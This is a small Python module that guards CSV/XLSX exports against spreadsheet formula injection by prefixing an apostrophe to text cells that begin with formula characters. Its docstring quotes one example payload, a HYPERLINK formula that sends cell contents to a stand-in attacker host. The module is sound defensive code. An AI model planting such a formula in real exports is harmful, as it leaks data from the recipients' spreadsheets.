"""Text that a spreadsheet must not run: the one guard every export writes its cells through.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` (or a tab
or carriage return before one) as a formula when a CSV is opened or an XLSX cell is edited, so a
rating reason such as `=HYPERLINK("http://evil.example/?d="&A1,"x")` would run on a manager's
machine. Text that begins so gets a leading apostrophe (the spreadsheets' own "this is text"
mark, and what OWASP advises); numbers, dates and None pass unchanged, so a negative number
stays a number and the figures keep their types.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as an export may write it: text that a spreadsheet would run is prefixed `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A `csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])
